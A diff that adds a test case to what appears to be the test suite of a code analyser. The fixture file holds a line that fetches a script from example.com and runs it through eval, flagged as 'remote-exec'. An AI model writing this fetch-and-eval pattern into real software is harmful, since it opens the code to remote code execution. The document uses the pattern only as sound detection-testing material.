@@ -320,6 +320,20 @@ describe('other files of the workspace', () => {
     });
   });
 
+  it('are not looked for inside of files', () => {
+    files({
+      'package.json': '{}\n',
+      'data.py': 'x = 1\n',
+      'main.ts': text`
+        import { version } from './package.json';
+        import { x } from './data.py';
+        const answer = await fetch('https://example.com/a.js');
+        eval(version + x + (await answer.text()));
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+      `,
+    });
+  });
+
   it('outside the project are not read', () => {
     fs.mkdirSync(path.join(folder, 'project/.git'), { recursive: true });
     files({
